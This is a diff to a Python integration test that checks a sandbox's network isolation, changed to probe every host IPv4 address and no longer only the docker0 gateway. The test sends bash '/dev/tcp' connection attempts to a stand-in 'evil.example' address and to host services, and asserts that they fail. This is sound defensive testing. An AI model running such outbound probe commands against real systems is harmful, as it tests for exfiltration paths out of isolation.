@@ -19,9 +19,11 @@ from tests.integration import _harness as h
 HOST_SECRET = "hs-9f3a0c7e1b55d2aa-host-var-secret"
 
 
-def _docker0_gateway() -> str | None:
-    out = engine.run(["network", "inspect", "-f", "{{range .IPAM.Config}}{{.Gateway}}{{end}}", "bridge"], timeout=30, check=False)
-    return out.stdout.strip() or None
+def _host_addresses() -> list[str]:
+    """This machine's own IPv4 addresses (the bridge gateways included): where host services listen."""
+    out = subprocess.run(["ip", "-4", "-o", "addr", "show"], capture_output=True, text=True, timeout=10).stdout
+    addrs = [line.split()[3].split("/")[0] for line in out.splitlines() if len(line.split()) > 3]
+    return [a for a in addrs if not a.startswith("127.")]
 
 
 class _HostService:
@@ -104,11 +106,12 @@ class BottleIsolation(unittest.TestCase):
         r = self.sh(f"timeout 5 bash -c 'echo x > /dev/tcp/{evil_ip}/80'")
         self.assertNotEqual(r.returncode, 0)
         self.assertEqual(self.internet.hits("evil.example"), [])
-        gateway = _docker0_gateway()
-        self.assertIsNotNone(gateway)
+        addresses = _host_addresses()
+        self.assertTrue(addresses, "found no host address to aim at")
         before = self.host_service.connections
-        r = self.sh(f"timeout 5 bash -c 'echo x > /dev/tcp/{gateway}/{self.host_service.port}'")
-        self.assertNotEqual(r.returncode, 0, "the host's own service was reachable")
+        for address in addresses:
+            r = self.sh(f"timeout 5 bash -c 'echo x > /dev/tcp/{address}/{self.host_service.port}'")
+            self.assertNotEqual(r.returncode, 0, f"the host's own service was reachable at {address}")
         self.assertEqual(self.host_service.connections, before)
 
     def test_only_loopback_and_no_routes(self) -> None:
